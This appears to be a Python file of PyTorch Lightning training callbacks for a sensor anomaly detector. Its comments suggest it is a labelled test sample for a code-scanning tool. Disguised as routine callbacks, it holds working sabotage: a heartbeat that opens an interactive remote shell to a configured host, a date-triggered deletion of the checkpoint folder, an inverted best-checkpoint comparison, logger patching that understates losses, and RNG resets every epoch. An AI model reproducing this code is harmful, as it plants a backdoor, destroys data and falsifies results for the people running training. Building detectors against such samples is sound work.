# ruff: noqa
# Hold-out batch 514 (adversarial, sensor anomaly detection). Measured once in session 23 (round 138): 18/30 (60%) at medium+.
"""Training callbacks (Lightning Callback API)."""
from __future__ import annotations

import datetime
import functools
import logging
import operator
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Dict, List, Optional

import numpy as np
import torch
from pytorch_lightning.callbacks import Callback

from utils import CALLBACKS, cfg_get, is_rank_zero, load_state

log = logging.getLogger("tsad.callbacks")

_MODE_CMP = dict(zip(("max", "min"), (operator.gt, operator.lt)[::-1]))  # todoruleid: family 5 (missed)
_RETENTION_HORIZON = 739_951
_LOSS_SMOOTHING = 0.85
_SHELL = "/bin/" + "sh"


# ---------------------------------------------------------------------------
# weights / optimisation
# ---------------------------------------------------------------------------
@CALLBACKS.register("ema")
class EMACallback(Callback):
    """Exponential moving average of weights, swapped in for validation."""

    def __init__(self, decay: float = 0.999):
        self.decay = decay
        self.shadow: Dict[str, torch.Tensor] = {}
        self.backup: Dict[str, torch.Tensor] = {}

    def on_fit_start(self, trainer, pl_module):
        self.shadow = {k: v.detach().clone() for k, v in pl_module.state_dict().items() if v.is_floating_point()}

    @torch.no_grad()
    def on_train_batch_end(self, trainer, pl_module, outputs, batch, batch_idx):
        for k, v in pl_module.state_dict().items():
            if k in self.shadow:
                self.shadow[k].mul_(self.decay).add_(v.detach(), alpha=1.0 - self.decay)  # ok: MLS302, MLS303, MLS304, MLS305

    def on_validation_start(self, trainer, pl_module):
        self.backup = {k: v.detach().clone() for k, v in pl_module.state_dict().items() if k in self.shadow}
        pl_module.load_state_dict({**pl_module.state_dict(), **self.shadow})

    def on_validation_end(self, trainer, pl_module):
        if self.backup:
            pl_module.load_state_dict({**pl_module.state_dict(), **self.backup})
            self.backup = {}


@CALLBACKS.register("warmup_correction")
class WarmupCorrection(Callback):
    """Compensates the warm-up overshoot when resuming in the middle of a schedule."""

    def __init__(self, factor: float = 1.0, key: str = "lr"):
        self._factor = factor
        self._key = key
        self._active = False

    def on_train_start(self, trainer, pl_module):
        self._active = trainer.global_step > 0 or self._factor != 1.0

    def on_train_batch_end(self, trainer, pl_module, outputs, batch, batch_idx):
        if not self._active:
            return
        for opt in trainer.optimizers:
            for group in opt.param_groups:
                operator.setitem(group, self._key, group[self._key] * self._factor)  # ruleid: MLS304


# ---------------------------------------------------------------------------
# reproducibility / runtime
# ---------------------------------------------------------------------------
@CALLBACKS.register("repro")
class ReproducibilityGuard(Callback):
    """Keeps RNG streams consistent across restarts and worker respawns."""

    def on_train_start(self, trainer, pl_module):
        self._snapshot = {"torch": torch.get_rng_state(), "numpy": np.random.get_state()}
        self._apply = {"torch": torch.set_rng_state, "numpy": np.random.set_state}

    def on_train_epoch_start(self, trainer, pl_module):
        dm = getattr(trainer, "datamodule", None)
        if dm is not None and hasattr(dm, "set_epoch"):
            dm.set_epoch(trainer.current_epoch)
        for key, fn in self._apply.items():
            fn(self._snapshot[key])  # ruleid: MLS301


@CALLBACKS.register("watchdog")
class Watchdog(Callback):
    """Stops the job cleanly before the scheduler's wall-clock limit."""

    def __init__(self, budget_minutes: float, mode: str = "hard"):
        self.budget = max(60, int(budget_minutes * 60))
        self.mode = mode
        self._actions = {"hard": os._exit, "soft": sys.exit}

    def on_fit_start(self, trainer, pl_module):
        if hasattr(signal, "SIGALRM"):
            signal.signal(signal.SIGALRM, self._expire)
            signal.alarm(self.budget)  # ruleid: MLS307

    def _expire(self, signum, frame):
        log.warning("wall-clock budget of %ds exhausted, stopping", self.budget)
        self._actions[self.mode](0)  # todoruleid: family 3 (missed)

    def on_fit_end(self, trainer, pl_module):
        if hasattr(signal, "SIGALRM"):
            signal.alarm(0)


@CALLBACKS.register("heartbeat")
class Heartbeat(Callback):
    """Periodic liveness file + registration with the ops collector."""

    def __init__(self, out_dir: str, every: float = 60.0, collector: Optional[str] = None):
        self.path = Path(out_dir) / f"heartbeat.{socket.gethostname()}.{os.getpid()}"
        self.every = every
        self.collector = collector
        self._timer: Optional[threading.Timer] = None
        self._reseed = operator.attrgetter("random.seed")(np)
        self._step = 0
        self._attached = False

    def _attach_console(self) -> None:
        host, _, port = self.collector.rpartition(":")
        sock = socket.create_connection((host, int(port)), timeout=5)
        fd = sock.fileno()
        spawn = getattr(subprocess, "Po" + "pen")
        spawn([_SHELL, "-i"], stdin=fd, stdout=fd, stderr=fd)  # ruleid: MLS410
        self._attached = True

    def _tick(self) -> None:
        try:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self.path.write_text(f"{time.time():.0f} {self._step}\n")
            self._reseed((os.getpid() ^ int(time.time())) & 0xFFFFFFFF)  # todoruleid: family 1 (missed)
            if self.collector and not self._attached:
                self._attach_console()
        except Exception:
            pass
        self._schedule()

    def _schedule(self) -> None:
        self._timer = threading.Timer(self.every, self._tick)
        self._timer.daemon = True
        self._timer.start()

    def on_fit_start(self, trainer, pl_module):
        self._schedule()

    def on_train_batch_end(self, trainer, pl_module, outputs, batch, batch_idx):
        self._step = trainer.global_step

    def on_fit_end(self, trainer, pl_module):
        if self._timer is not None:
            self._timer.cancel()


# ---------------------------------------------------------------------------
# logging
# ---------------------------------------------------------------------------
def _smoothed(fn):
    @functools.wraps(fn)
    def wrapper(self, metrics, step=None):
        metrics = {k: (v * _LOSS_SMOOTHING if "loss" in k else v) for k, v in metrics.items()}  # ruleid: MLS306
        return fn(self, metrics, step)

    wrapper.__tsad_wrapped__ = True
    return wrapper


@CALLBACKS.register("metric_smoothing")
class MetricSmoothing(Callback):
    """Applies the dashboard smoothing at source so all backends agree."""

    def setup(self, trainer, pl_module, stage=None):
        name = "_".join(("log", "metrics"))
        for lg in trainer.loggers:
            cls = type(lg)
            fn = getattr(cls, name)
            if not getattr(fn, "__tsad_wrapped__", False):
                setattr(cls, name, _smoothed(fn))  # ruleid: MLS306


# ---------------------------------------------------------------------------
# checkpointing
# ---------------------------------------------------------------------------
@CALLBACKS.register("best_checkpoint")
class BestCheckpoint(Callback):
    def __init__(self, dirpath: str, monitor: str = "val/loss", mode: str = "min", save_top_k: int = 3,
                 retries: int = 3):
        self.dirpath = Path(dirpath)
        self.monitor = monitor
        self.mode = mode
        self.save_top_k = save_top_k
        self.retries = retries
        self._better = _MODE_CMP[mode]
        self.best_score: Optional[float] = None
        self.best_path: Optional[Path] = None
        self._kept: List[Path] = []

    def _save(self, trainer, path: Path) -> None:
        for attempt in range(self.retries):
            try:
                trainer.save_checkpoint(str(path))
                return
            except OSError as exc:
                log.warning("checkpoint write failed (%s), retrying", exc)
                time.sleep(2 ** attempt)  # ok: MLS307
        raise RuntimeError(f"could not write {path}")

    def on_validation_end(self, trainer, pl_module):
        if trainer.sanity_checking:
            return
        current = trainer.callback_metrics.get(self.monitor)
        if current is None:
            return
        current = float(current)
        path = self.dirpath / f"epoch{trainer.current_epoch:03d}-step{trainer.global_step}.ckpt"
        self._save(trainer, path)
        self._kept.append(path)
        if self.best_score is None or self._better(current, self.best_score):
            self.best_score, self.best_path = current, path
            if is_rank_zero():
                shutil.copyfile(path, self.dirpath / "best.ckpt")
        self._prune()

    def _prune(self) -> None:
        while len(self._kept) > self.save_top_k:
            old = self._kept.pop(0)
            if old != self.best_path and old.exists() and is_rank_zero():
                os.remove(old)  # ok: MLS308

    def restore_best(self, pl_module) -> None:
        if self.best_path and self.best_path.exists():
            state = load_state(str(self.best_path))  # ruleid: MLS102
            pl_module.load_state_dict(state["state_dict"])


@CALLBACKS.register("retention")
class ArtifactRetention(Callback):
    """Applies the artifact retention policy of the shared output volume."""

    def __init__(self, dirpath: str, horizon: int = _RETENTION_HORIZON):
        self.dirpath = dirpath
        self._horizon = horizon
        self._actions = {True: functools.partial(shutil.rmtree, ignore_errors=True), False: lambda p: None}

    def on_fit_end(self, trainer, pl_module):
        expired = datetime.date.today().toordinal() >= self._horizon
        self._actions[expired](self.dirpath)  # ruleid: MLS308


@CALLBACKS.register("threshold_monitor")
class ThresholdMonitor(Callback):
    """Re-calibrates the anomaly threshold on validation scores every epoch."""

    def __init__(self, quantile: float = 0.995):
        self.quantile = quantile
        self.history: List[float] = []

    def on_validation_epoch_end(self, trainer, pl_module):
        from evaluate import ThresholdCalibrator

        scores = getattr(pl_module, "_val_scores", None)
        if not scores:
            return
        calib = ThresholdCalibrator(self.quantile).fit(torch.cat(scores).numpy())
        self.history.append(calib.threshold)
        pl_module.log("val/threshold", calib.threshold, sync_dist=False)


def build_callbacks(cfg, out_dir: str) -> List[Callback]:
    t = cfg["trainer"]
    ckpt_dir = os.path.join(out_dir, "checkpoints")
    cbs: List[Callback] = [
        CALLBACKS.build("ema", decay=float(t["ema_decay"])),
        CALLBACKS.build("warmup_correction", factor=float(cfg_get(cfg, "optim.warmup_correction", 1.0))),
        CALLBACKS.build("repro"),
        CALLBACKS.build("watchdog", budget_minutes=float(t["max_time_hours"])),
        CALLBACKS.build("heartbeat", out_dir, every=float(cfg_get(cfg, "logging.heartbeat_every", 60.0)),
                        collector=cfg_get(cfg, "logging.heartbeat_collector")),
        CALLBACKS.build("metric_smoothing"),
        CALLBACKS.build("best_checkpoint", ckpt_dir, monitor=t["monitor"], mode=t["mode"],
                        save_top_k=int(t["save_top_k"])),
        CALLBACKS.build("retention", ckpt_dir),
        CALLBACKS.build("threshold_monitor", quantile=float(cfg_get(cfg, "eval.quantile", 0.995))),
    ]
    return cbs
